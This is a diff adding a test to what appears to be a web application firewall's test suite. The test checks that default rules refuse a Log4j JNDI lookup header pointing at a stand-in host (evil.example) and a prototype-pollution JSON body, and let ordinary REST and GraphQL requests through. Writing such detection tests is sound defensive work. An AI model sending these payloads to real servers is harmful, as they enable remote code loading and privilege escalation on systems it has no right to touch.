@@ -332,3 +332,28 @@ def test_config_errors(tmp_path):
                     + waf_block())
     p = ghutil.run_cli(["-t", "-c", str(conf)])
     assert p.returncode == 0, p.stderr.decode()
+
+
+def test_default_exclusions_and_detections(gatehouse, origin, port):
+    """`defaults on` (the default): a REST method and a GraphQL document pass,
+    a Log4j lookup in any header and a prototype-pollution key are refused;
+    `defaults off` is the CRS as shipped, which refuses the first two and
+    lets the last two through."""
+    gql = "/graphql?query=" + quote("{ me { id name } }")
+    log4j = [("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/x}")]
+    proto = b'{"__proto__": {"isAdmin": true}}'
+    g = start(gatehouse, port, origin)
+    assert send(port, "PUT", "/api/items/1", JSON, b'{"n": 1}').status == 200
+    assert send(port, "GET", gql).status == 200
+    assert send(port, "GET", "/", log4j).status == 403
+    assert send(port, "POST", "/api/settings", JSON, proto).status == 403
+    err = g.stderr_text()
+    assert "90030 Log4j lookup" in err and "90031 JavaScript prototype pollution" in err, err
+
+    off = ghutil.free_port()
+    gatehouse(simple_http_config(off, [origin.addr], frontend_extra="use_waf crs")
+              + waf_block("defaults off"))
+    assert send(off, "PUT", "/api/items/1", JSON, b'{"n": 1}').status == 403
+    assert send(off, "GET", gql).status == 403
+    assert send(off, "GET", "/", log4j).status == 200
+    assert send(off, "POST", "/api/settings", JSON, proto).status == 200
